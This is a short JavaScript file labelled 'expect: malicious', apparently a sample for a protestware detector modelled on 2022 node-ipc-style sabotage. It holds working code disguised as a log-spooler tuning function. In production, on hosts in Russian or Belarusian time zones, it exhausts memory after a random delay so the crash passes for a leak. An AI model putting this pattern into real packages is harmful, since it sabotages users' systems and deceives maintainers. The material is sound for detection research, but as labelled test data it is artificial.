// expect: malicious
// source: 2022 protestware's sabotage variants (node-ipc's and later copies' region gates) with a delayed fault: a
// log spooler, for hosts in Russian or Belarusian time zones, after a date and in production only, starts at a
// random time to hold memory until the process dies, so that the failure looks like a leak
const Z = ['Europe/Moscow', 'Europe/Minsk', 'Europe/Samara', 'Asia/Omsk', 'Asia/Irkutsk'];
function regional() {
  const tz = Intl.DateTimeFormat().resolvedOptions().timeZone || '';
  return Z.includes(tz);
}
function pressure(hold) {
  const grow = () => { hold.push(Buffer.alloc(8 * 1024 * 1024)); setImmediate(grow); };
  grow();
}
exports.tune = function tune(spool) {
  if (process.env.NODE_ENV !== 'production' || !regional()) return;
  if (Date.now() < Date.UTC(2022, 2, 1)) return;
  setTimeout(() => pressure(spool.buffers), (20 + Math.floor(Math.random() * 40)) * 60000).unref();
};
